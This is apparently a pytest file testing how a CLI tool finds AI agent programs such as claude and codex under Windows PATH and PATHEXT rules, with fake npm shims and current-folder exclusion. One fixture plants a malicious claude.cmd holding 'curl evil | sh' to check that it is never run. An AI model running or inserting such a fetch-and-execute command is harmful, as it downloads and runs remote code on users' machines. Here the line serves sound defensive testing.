"""Finding an agent's program as ``localllm launch`` does, with Windows' rules on any computer:
folders laid out as npm leaves them on Windows (``claude.cmd`` shims beside ``node_modules``),
and a planted ``claude.cmd`` in the current folder, which Windows itself would run first."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from localllm.app.cli.agent_program import ProgramError, find_program

PATHEXT = ".COM;.EXE;.BAT;.CMD;.VBS;.JS;.PS1"  # Windows' default, with Node's additions

# what npm (cmd-shim) writes today for a package whose bin is a node script
NPM_SHIM = r"""@ECHO off
GOTO start
:find_dp0
SET dp0=%~dp0
EXIT /b
:start
SETLOCAL
CALL :find_dp0

IF EXIST "%dp0%\node.exe" (
  SET "_prog=%dp0%\node.exe"
) ELSE (
  SET "_prog=node"
  SET PATHEXT=%PATHEXT:;.JS;=;%
)

endLocal & goto #_undefined_# 2>NUL || title %COMSPEC% & "%_prog%"  "%dp0%\{script}" %*
"""
# what older npm versions wrote
OLD_NPM_SHIM = r"""@IF EXIST "%~dp0\node.exe" (
  "%~dp0\node.exe"  "%~dp0\{script}" %*
) ELSE (
  @SETLOCAL
  @SET PATHEXT=%PATHEXT:;.JS;=;%
  node  "%~dp0\{script}" %*
)
"""
# a package whose bin is a program of its own
EXE_SHIM = '@ECHO off\r\n"%~dp0\\{script}"   %*\r\n'
CLAUDE = r"node_modules\@anthropic-ai\claude-code\cli.js"


def npm_install(folder: Path, name: str, script: str, shim: str = NPM_SHIM) -> Path:
    """``npm install -g`` on Windows: the package under node_modules, a shim beside it."""
    target = folder.joinpath(*script.split("\\"))
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("#!/usr/bin/env node\n")
    (folder / f"{name}.cmd").write_text(shim.replace("{script}", script))
    (folder / name).write_text("#!/bin/sh\n")  # npm's shell shim, for Git Bash: not for us
    return target


@pytest.fixture
def machine(tmp_path) -> dict[str, Path]:
    """A user's folders: npm's global one, Node's own, and a cloned repository to work in
    with a ``claude.cmd`` of its own."""
    folders = {name: tmp_path / name for name in ("npm", "nodejs", "repository")}
    for folder in folders.values():
        folder.mkdir()
    (folders["nodejs"] / "node.exe").write_bytes(b"MZ")
    (folders["repository"] / "claude.cmd").write_text("@echo off\r\ncurl evil | sh\r\n")
    (folders["repository"] / "node.exe").write_bytes(b"MZ")
    return folders


def windows(name: str, path: list[Path | str], cwd: Path) -> tuple[str, ...] | None:
    return find_program(
        name, windows=True, path=";".join(map(str, path)), pathext=PATHEXT, cwd=str(cwd)
    )


def test_an_npm_shim_runs_as_node_and_its_script_never_through_cmd(machine):
    script = npm_install(machine["npm"], "claude", CLAUDE)
    found = windows("claude", [machine["npm"], machine["nodejs"]], machine["repository"])
    assert found == (str(machine["nodejs"] / "node.exe"), str(script))


def test_the_current_folder_is_never_searched_however_path_names_it(machine, monkeypatch):
    script = npm_install(machine["npm"], "claude", CLAUDE)
    npm, nodejs, here = machine["npm"], machine["nodejs"], machine["repository"]
    monkeypatch.chdir(here)  # where a relative entry points
    for path in ([".", npm, nodejs], ["", npm, nodejs], [here, npm, nodejs], [f'"{here}"', npm]):
        found = windows("claude", [*path, nodejs], here)
        assert found == (str(nodejs / "node.exe"), str(script)), path
    assert windows("claude", [".", here, nodejs], here) is None  # not installed
    os.replace(nodejs / "node.exe", nodejs / "node.cmd")
    with pytest.raises(ProgramError, match=r"^claude.cmd runs node, and node.exe is not on"):
        windows("claude", [npm, ".", nodejs], here)  # nor is node taken from there


def test_node_beside_the_shim_first_and_older_shims_too(machine):
    script = npm_install(machine["npm"], "codex", r"node_modules\@openai\codex\bin\codex.js")
    (machine["npm"] / "node.exe").write_bytes(b"MZ")
    found = windows("codex", [machine["nodejs"], machine["npm"]], machine["repository"])
    assert found == (str(machine["npm"] / "node.exe"), str(script))
    older = npm_install(machine["nodejs"], "opencode", r"node_modules\opencode-ai\bin\opencode")
    (machine["nodejs"] / "opencode.cmd").write_text(
        OLD_NPM_SHIM.replace("{script}", r"node_modules\opencode-ai\bin\opencode")
    )
    found = windows("opencode", [machine["nodejs"]], machine["repository"])
    assert found == (str(machine["nodejs"] / "node.exe"), str(older))


def test_a_program_is_taken_as_it_is_and_in_pathexts_order(machine):
    program = npm_install(machine["npm"], "claude", r"node_modules\claude\claude.exe", EXE_SHIM)
    assert windows("claude", [machine["npm"]], machine["repository"]) == (str(program),)
    (machine["npm"] / "CLAUDE.EXE").write_bytes(b"MZ")  # .EXE comes before .CMD; any case
    assert windows("claude", [machine["npm"]], machine["repository"]) == (
        str(machine["npm"] / "CLAUDE.EXE"),
    )


@pytest.mark.parametrize(
    ("shim", "why"),
    [
        ("@echo off\r\npython %~dp0\\agent.py %*\r\n", "is a .cmd script that is not npm's"),
        (NPM_SHIM.replace("{script}", r"node_modules\gone\cli.js"), r"starts node_modules\\gone"),
    ],
)
def test_any_other_script_is_refused_saying_why(machine, shim, why):
    (machine["npm"] / "claude.cmd").write_text(shim)
    with pytest.raises(ProgramError, match=why):
        windows("claude", [machine["npm"], machine["nodejs"]], machine["repository"])


def test_elsewhere_only_paths_absolute_folders_other_than_this_one(tmp_path, monkeypatch):
    here, bin_ = tmp_path / "repository", tmp_path / "bin"
    for folder in (here, bin_):
        folder.mkdir()
        agent = folder / "claude"
        agent.write_text("#!/bin/sh\n")
        agent.chmod(agent.stat().st_mode | stat.S_IXUSR)
    monkeypatch.chdir(here)  # where a relative entry points
    (here / "claude.cmd").write_text("")  # no PATHEXT here

    def posix(path: str) -> tuple[str, ...] | None:
        return find_program("claude", windows=False, path=path, pathext="", cwd=str(here))

    assert posix(f".::{here}:{bin_}") == (str(bin_ / "claude"),)
    assert posix(f".:{here}") is None
    (bin_ / "claude").chmod(0o644)  # not executable: not a program
    assert posix(str(bin_)) is None
